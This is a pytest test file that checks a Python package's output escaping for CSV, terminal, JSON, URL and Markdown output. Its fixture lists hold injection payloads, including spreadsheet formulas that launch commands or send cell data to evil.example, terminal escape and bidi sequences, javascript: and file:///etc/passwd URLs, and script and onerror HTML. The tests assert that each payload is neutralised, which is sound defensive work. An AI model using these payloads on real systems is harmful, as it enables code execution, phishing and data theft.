"""The escaping rule of each output (graphintro.output), checked against the real consumers: Python's
csv reader, JSON parsers, GitHub's own Markdown renderer (cmark-gfm) and markdown-it with linkify."""

import csv
import io
import json
import re

import pytest

from graphintro.output import csv_cell, csv_row, json_text, markdown_text, terminal_text, web_url

# What a spreadsheet treats as a formula once the cell is read (OWASP, CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C notepad'!'A1'",
]
TERMINAL_ATTACKS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b2J",
    "name\x07\x08\x7f",
    "\u202eevil\u202c",
    "\u2066isolate\u2069",
    "a\u200bb",
    "\x1b]0;title\x07",
    "line\nbreak\rreturn",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_from_the_data_is_text_in_the_written_csv(value):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row([value, "plain", 3, -0.5]))
    cell, plain, number, negative = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cell == "'" + value  # the whole value is kept, shown as text
    assert not cell.lstrip(" \t\r").startswith(("=", "+", "-", "@"))
    assert (plain, number, negative) == ("plain", "3", "-0.5")  # numbers stay numbers


def test_ordinary_cells_are_untouched():
    for value in ["Zoé Fontaine", "Directrice des achats", "L'Oréal", "AT&T", "", "3 - 2", "a=b"]:
        assert csv_cell(value) == value
    assert csv_cell(None) is None and csv_cell(-3) == -3


@pytest.mark.parametrize("value", TERMINAL_ATTACKS)
def test_terminal_text_leaves_nothing_a_terminal_obeys(value):
    shown = terminal_text(value)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]", shown)
    assert "[31m" not in shown and "]8;;" not in shown  # escape sequences go whole, no debris


def test_terminal_text_keeps_real_names_readable():
    assert terminal_text("Zoé\u200b Fontaine\u200f") == "Zoé Fontaine"
    assert terminal_text("Ahmad\u200cزاده") == "Ahmad\u200cزاده"  # ZWNJ is part of Persian spelling
    assert terminal_text("👩\u200d💻 Inès") == "👩\u200d💻 Inès"  # ZWJ emoji
    assert terminal_text("two\nlines", keep_newlines=True) == "two\nlines"
    assert terminal_text("two\nlines") == "two lines"


def test_the_escaping_rules_take_no_printable_character():
    """``terminal_text`` and ``json_text`` return a text of printable characters (newlines apart) as
    it is, without running their patterns over it (a whole answer's JSON): so no pattern may take a
    character that Python counts as printable, which every character of Unicode is checked for.
    And a hostile character at the end of a long answer is still found."""
    from graphintro import output

    printable = "".join(c for c in map(chr, range(0x110000)) if c.isprintable())
    for pattern in (
        output._ANSI,
        output._SURROGATE,
        output._TERMINAL_UNSAFE,
        output._TERMINAL_UNSAFE_KEEP_NEWLINE,
        output._JSON_ESCAPE,
    ):
        assert re.search(pattern, printable) is None, pattern
    long = "Zoé Fontaine, Directrice des achats\n" * 2000
    assert terminal_text(long + "\x1b[31m!", keep_newlines=True) == long + "!"
    assert json_text([long + "\u202e"]).endswith('\\u202e"\n]')


@pytest.mark.parametrize(
    "value", ["\ud800 lone", "NUL\x00", "\x1b[31m", "\u202eabc", "\x85\x9b", "fin\udfff"]
)
def test_json_text_is_valid_utf8_json_for_any_string(value):
    text = json_text({"name": value})
    encoded = text.encode("utf-8")  # lone surrogates would raise here
    assert json.loads(encoded) == {"name": value}  # the same string comes back
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", text.replace("\n", ""))


@pytest.mark.parametrize(
    "value",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "data:text/html,<b>x</b>",
        "vbscript:x",
        "//evil.example",
        "http://",
        "https://a b",
        "java\nscript:x",
        "https://evil.example\x1b[0m",
        "file:///etc/passwd",
        "",
    ],
)
def test_only_http_urls_become_links(value):
    assert web_url(value) is None


def test_http_urls_are_kept():
    assert web_url("https://www.linkedin.com/in/zoe-fontaine") == "https://www.linkedin.com/in/zoe-fontaine"
    assert web_url(" http://fr.viadeo.com/p/1 ") == "http://fr.viadeo.com/p/1"


MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click](javascript:alert(3))",
    "![x](http://evil.example/p.png)",
    "<https://evil.example>",
    "www.evil.example",
    "https://evil.example/x",
    "evil@evil.example",
    "</textarea><b>bold</b>",
    "# heading",
    "| a | b |",
    "*em* __strong__ `code`",
    "[ref]: http://evil.example",
    "&lt;script&gt;",
    "line\n\n<div>block</div>",
    "- item",
    "1. item",
    "> quote",
    "=== ",
    "~~~\nfence",
    "\\<b>x\\</b>",
    "<!-- comment -->",
    "<a href='http://evil.example'>a</a>",
]


def _render_everywhere(markdown: str) -> list[str]:
    import cmarkgfm
    from cmarkgfm.cmark import Options
    from markdown_it import MarkdownIt

    gfm = cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
    linkify = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table"])
    return [gfm, linkify.render(markdown)]


@pytest.mark.parametrize("value", MARKDOWN_ATTACKS)
def test_markdown_text_renders_no_tag_link_or_image(value):
    markdown = f"- {markdown_text(value)}\n\n| who |\n|---|\n| {markdown_text(value)} |\n"
    for html in _render_everywhere(markdown):
        tags = set(re.findall(r"<\s*([a-zA-Z][\w-]*)", html))
        assert tags <= {"ul", "li", "table", "thead", "tbody", "tr", "th", "td", "p"}, (value, html)
        assert "javascript:" not in html.lower() or "href" not in html


def test_markdown_text_reads_as_the_value():
    """Escaping changes how it is written, not what a reader sees."""
    import html as html_module

    from markdown_it import MarkdownIt

    for value in ["Zoé Fontaine", "AT&T <Europe>", "R&D [Paris] (Sud) *", "https://evil.example"]:
        rendered = MarkdownIt("commonmark").renderInline(markdown_text(value))
        assert html_module.unescape(rendered) == value


def test_markdown_printed_to_a_terminal_or_pipe_still_links_no_address():
    """``report --format md`` to standard output goes through the terminal filter: the mark that keeps
    GitHub from turning a data e-mail address into a mailto: link must survive it."""
    import cmarkgfm

    from graphintro.output import markdown_text

    printed = terminal_text(markdown_text("Write to boss@evil.example now"))
    html = cmarkgfm.github_flavored_markdown_to_html(printed)
    assert "<a" not in html and "boss@" in html.replace("\u034f", "")
